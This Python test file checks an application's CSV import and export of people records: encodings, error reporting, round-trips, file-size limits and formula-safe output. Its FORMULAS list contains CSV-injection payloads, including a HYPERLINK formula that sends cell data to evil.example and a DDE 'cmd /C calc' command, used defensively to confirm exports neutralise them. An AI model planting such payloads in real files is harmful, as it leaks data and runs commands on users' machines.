"""Reading and writing people files as spreadsheets produce them."""

from __future__ import annotations

import pytest

from alliance_desk.core.cadence import Cadence
from alliance_desk.core.people import Person, Side
from alliance_desk.core.people_csv import ImportRejected, parse_people_csv, people_to_csv
from alliance_desk.core.stakeholders import Stakeholder, Stance


def rows_of(text: str, *, bom: bool = False, encoding: str = "utf-8") -> bytes:
    data = text.replace("\n", "\r\n").encode(encoding)
    return (b"\xef\xbb\xbf" + data) if bom else data


def test_excel_semicolon_file_with_bom_and_aliases() -> None:
    """Excel's European CSV (BOM, semicolons, its own header words) is read correctly."""
    data = rows_of(
        "Name;Side;Organization;E-mail;Power/Influence;Interest/Engagement;Stance;Cadence\n"
        "Ингрид Сольберг;partner;Nordlys;ingrid@nordlys.example;5;4;champion;monthly\n"
        "佐藤 健一;Partner;Ōtori;;2;3;;\n",
        bom=True,
    )
    (first, first_details), (second, _) = parse_people_csv(data)
    assert first.name == "Ингрид Сольберг" and first.side is Side.PARTNER
    assert first.organisation == "Nordlys" and first.email == "ingrid@nordlys.example"
    assert (first_details.power, first_details.interest) == (5, 4)
    assert first_details.stance is Stance.CHAMPION and first_details.cadence is Cadence.MONTHLY
    assert second.name == "佐藤 健一"


def test_every_problem_is_reported_with_row_and_column() -> None:
    """Bad values, missing names and duplicates are all listed, each with row and column."""
    data = rows_of(
        "name,side,power,interest,email\n"
        "Ada,partner,7,3,ada@x.example\n"  # row 2: power out of range
        ",internal,3,3,\n"  # row 3: no name
        "Ada,partner,3,3,\n"  # row 4: repeats row 2
        "Bo,sideways,3,0,not-an-email\n"  # row 5: side, interest, email
    )
    with pytest.raises(ImportRejected) as caught:
        parse_people_csv(data)
    found = {(p.row, p.column) for p in caught.value.problems}
    assert found == {
        (2, "power"),
        (3, "name"),
        (4, "name"),
        (5, "side"),
        (5, "interest"),
        (5, "email"),
    }
    assert "repeats row 2" in str(caught.value)
    assert str(caught.value).startswith("Nothing was imported.")


def test_unknown_and_missing_columns_are_reported_on_the_header_row() -> None:
    with pytest.raises(ImportRejected) as caught:
        parse_people_csv(rows_of("name,shoe size\nAda,38\n"))
    problems = {(p.row, p.column) for p in caught.value.problems}
    assert problems == {(1, "shoe size"), (1, "side")}


def test_people_already_on_the_alliance_are_duplicates() -> None:
    with pytest.raises(ImportRejected, match="already on this alliance"):
        parse_people_csv(rows_of("name,side\nADA,partner\n"), existing={("ada", "partner")})


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a text file"),
        ("name,side\nJosé,partner\n".encode("latin-1"), "not UTF-8"),
        (b"name,side\n", "no people"),
    ],
)
def test_unreadable_files_get_a_clear_message(data: bytes, message: str) -> None:
    with pytest.raises(ImportRejected, match=message):
        parse_people_csv(data)


def test_too_many_cells_in_a_row() -> None:
    with pytest.raises(ImportRejected, match="3 cells but only 2 columns"):
        parse_people_csv(rows_of("name,side\nAda,partner,extra\n"))


def test_export_then_import_loses_nothing() -> None:
    """What is exported reads back as the same people with the same details."""
    data = rows_of(
        "name,side,title,organisation,function,email,phone,roles,power,interest,stance,channel,"
        "cadence,cadence_rule,formality,notes,internal_only\n"
        'Ada "the Chair" Ng,partner,SVP,Kestrel,R&D,ada@k.example,+44 1,"JSC, JDC",5,4,'
        'sceptic,phone,custom,FREQ=WEEKLY;INTERVAL=3,formal,"Likes data,\nnot slides",yes\n'
    )
    ((person, details),) = parse_people_csv(data)
    exported = people_to_csv(
        [Stakeholder(id=1, alliance_id=1, person=Person(id=1, **_fields(person)), details=details)]
    )
    assert exported.startswith(b"\xef\xbb\xbf")
    ((again, again_details),) = parse_people_csv(exported)
    assert again == person and again_details == details
    assert details.role_list == ["JSC", "JDC"] and details.notes == "Likes data,\nnot slides"


def _fields(person) -> dict:
    return {name: getattr(person, name) for name in person.__dataclass_fields__}


# -- formula-safe exports, bounded reads --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'Tis the season",
    "O'Neil",
    "+44 20 7946 0000",
]


def _typed(text: str) -> dict[str, str]:
    """A person with `text` typed into every free-text field."""
    return {
        "name": f"N {text}",
        "side": "partner",
        "title": text,
        "organisation": text,
        "function": text,
        "phone": text[:60],
        "roles": text,
        "notes": text,
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_cells_a_spreadsheet_would_run_are_inert_and_read_back_as_typed(text: str) -> None:
    """OWASP's rule: no exported cell starts with =, +, -, @, tab or CR unless behind a
    quote; the import gives back exactly what typing the same text into the form gives (a
    genuine leading quote included)."""
    import csv
    import io

    from alliance_desk.core.stakeholders import validate_person_on_alliance

    person, details = validate_person_on_alliance(_typed(text))
    stakeholder = Stakeholder(
        id=1, alliance_id=1, person=Person(id=1, **_fields(person)), details=details
    )
    exported = people_to_csv([stakeholder])
    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    assert parse_people_csv(exported) == [(person, details)]


def test_a_hand_made_quote_before_a_formula_is_read_as_the_spreadsheet_shows_it() -> None:
    """A cell typed as '=1+1 (the quote Excel uses to mean text) imports as =1+1; a quote
    before anything else stays."""
    ((person, details),) = parse_people_csv(
        rows_of("name,side,title,notes\nAda,partner,'=1+1,'Tis\n")
    )
    assert person.title == "=1+1" and details.notes == "'Tis"


def test_a_huge_file_is_refused_from_its_size_without_reading_it(tmp_path) -> None:
    """A 3 GB file (sparse: no disk used) is refused at once: nothing is read into memory."""
    import tracemalloc

    from alliance_desk.core.people_csv import read_people_file

    huge = tmp_path / "huge.csv"
    with huge.open("wb") as handle:
        handle.truncate(3 * 1024**3)
    tracemalloc.start()
    with pytest.raises(ImportRejected, match="larger than 20 MB"):
        read_people_file(huge)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1024**2


def test_an_endless_device_is_refused_at_the_limit(tmp_path) -> None:
    """/dev/zero (or a pipe that never ends) is read only up to the 20 MB limit, then
    refused; never more than the limit is held in memory."""
    import tracemalloc

    from alliance_desk.core.people_csv import MAX_BYTES, read_people_file

    tracemalloc.start()
    with pytest.raises(ImportRejected, match="larger than 20 MB"):
        read_people_file("/dev/zero")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2.5 * MAX_BYTES


def test_a_missing_file_or_a_folder_says_so(tmp_path) -> None:
    from alliance_desk.core.people_csv import Unreadable, read_people_file

    with pytest.raises(Unreadable, match="no such file"):
        read_people_file(tmp_path / "nothing.csv")
    with pytest.raises(Unreadable, match="folder"):
        read_people_file(tmp_path)
